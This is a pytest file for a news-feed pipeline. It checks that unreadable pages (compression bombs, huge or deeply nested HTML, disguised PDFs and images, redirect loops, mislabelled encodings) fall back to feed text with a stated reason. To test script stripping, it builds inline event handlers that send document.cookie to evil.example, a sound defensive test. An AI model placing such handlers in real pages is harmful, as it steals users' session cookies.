"""Pages that no article can be read from, over the real client: the entry goes on with the feed's text and the reason."""

import zlib
from collections.abc import Iterator
from contextlib import closing
from ipaddress import ip_network
from itertools import repeat

import psutil
import pytest

from pipeline.enrich.page import TrafilaturaReader
from pipeline.enrich.prepare import read_feed_text
from pipeline.fetch.http import HttpFetcher
from pipeline.records.article import PreparedArticle
from tests.enrich.entries import SENTENCES, entry, preparer
from tests.fetch.hostile import Asked, Behaviour, HostileServer, Send, answer, head, redirect

PREPARER = preparer()
MOST_MEMORY = 300_000_000
SCRIPTS = " ".join(
    f"on{name}=\"fetch('//evil.example/'+document.cookie)\"" for name in ("click", "load", "error", "focus")
)
BODY = "".join(f'<p {SCRIPTS} style="background:url(javascript:x())">{sentence}</p>' for sentence in SENTENCES)
RUSSIAN = "".join(
    f"<p>Колонна грузовиков номер {n} покинула лагерь до рассвета, сообщил торговец.</p>" for n in range(9)
)


@pytest.fixture(scope="module")
def server() -> Iterator[HostileServer]:
    with HostileServer() as running:
        yield running


@pytest.fixture(scope="module")
def reader() -> Iterator[TrafilaturaReader]:
    loopback = [ip_network("127.0.0.0/8")]
    with closing(HttpFetcher(contact="ops@example.org", version="1", allow_networks=loopback)) as fetcher:
        pages = TrafilaturaReader(fetcher, seconds=5)
        yield pages
        pages.close()


def endless(size: int) -> Behaviour:
    async def behave(asked: Asked, send: Send) -> None:
        await send(head(content_type="text/html"))
        for _ in repeat(None, size // 65_536):
            await send(b"<p>" * 21_845 + b"x")

    return behave


def html(body: str | bytes, content_type: str = "text/html", **headers: str) -> Behaviour:
    content = body if isinstance(body, bytes) else body.encode()
    return answer(content, 200, content_type=content_type, **headers)


def article(server: HostileServer, reader: TrafilaturaReader, behaviour: Behaviour, path: str) -> PreparedArticle:
    """What becomes of an entry whose page behaves like this."""
    server.behaviours[path] = behaviour
    raw = entry(url=server.url(path))
    return PREPARER.prepare(raw, read_feed_text(raw), reader.read(server.url(path)).result(60))


@pytest.mark.parametrize(
    ("name", "behaviour", "kind", "reason"),
    [
        ("large", endless(50_000_000), "unreadable", "over 2 MB"),
        ("bomb", html(zlib.compress(b"<p>x" * 12_500_000, 9), content_encoding="deflate"), "unreadable", ""),
        ("deep", html("<div>" * 100_000 + "x" + "</div>" * 100_000), "", ""),
        (
            "nothing",
            html("<html><body><script>app()</script><div id='root'></div></body></html>"),
            "stub",
            "no article",
        ),
        ("document.html", html(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(range(256)) * 200), "unreadable", "is a PDF"),
        ("photo.html", html(b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(range(256)) * 200), "unreadable", "is an image"),
        ("gone", answer(b"<p>gone</p>", 410, content_type="text/html"), "gone", "status 410"),
        ("around", redirect("/around"), "unreadable", "redirect"),
    ],
)
def test_the_entry_stays_with_its_own_text_and_says_why(
    server: HostileServer, reader: TrafilaturaReader, name: str, behaviour: Behaviour, kind: str, reason: str
) -> None:
    found = article(server, reader, behaviour, f"/{name}")

    assert (found.text, found.text_source) == ("They left before dawn.", "feed")
    assert found.page_error
    assert reason in found.page_error
    assert found.page_kind == kind or not kind
    everyone = [psutil.Process(), *psutil.Process().children(recursive=True)]
    extracting = [process for process in everyone if "forkserver" in " ".join(process.cmdline())]
    assert all(process.memory_info().rss < MOST_MEMORY for process in extracting)


def test_a_page_and_its_canonical_link_that_send_round_in_circles_are_given_up(
    server: HostileServer, reader: TrafilaturaReader
) -> None:
    server.behaviours["/amp"] = redirect("/story")

    found = article(server, reader, redirect("/amp"), "/story")

    assert (found.text_source, found.page_kind) == ("feed", "unreadable")
    assert "redirect" in (found.page_error or "")


def test_a_canonical_link_is_a_name_and_is_never_followed(server: HostileServer, reader: TrafilaturaReader) -> None:
    link = f'<link rel="canonical" href="{server.url("/canonical")}">'

    found = article(
        server, reader, html(f"<html><head>{link}</head><body><article>{BODY}</article></body></html>"), "/linked"
    )

    assert found.canonical == server.url("/canonical")
    assert not [asked for asked in server.asked if asked.path == "/canonical"]


def test_scripts_in_every_attribute_leave_words_alone(server: HostileServer, reader: TrafilaturaReader) -> None:
    found = article(server, reader, html(f"<html><body {SCRIPTS}><article>{BODY}</article></body></html>"), "/scripts")

    assert found.text.split("\n\n") == SENTENCES
    assert "evil" not in found.text


@pytest.mark.parametrize(
    "header", ["text/html; charset=utf-8", "text/html; charset=shift_jis", "text/html; charset=no"]
)
def test_a_page_in_another_encoding_than_it_says_gives_words_or_a_reason(
    server: HostileServer, reader: TrafilaturaReader, header: str
) -> None:
    body = f"<html><head><meta charset=windows-1251></head><body><article>{RUSSIAN}</article></body></html>"

    found = article(server, reader, html(body.encode("cp1251"), content_type=header), f"/{header[-3:]}")

    assert "Колонна грузовиков" in found.text
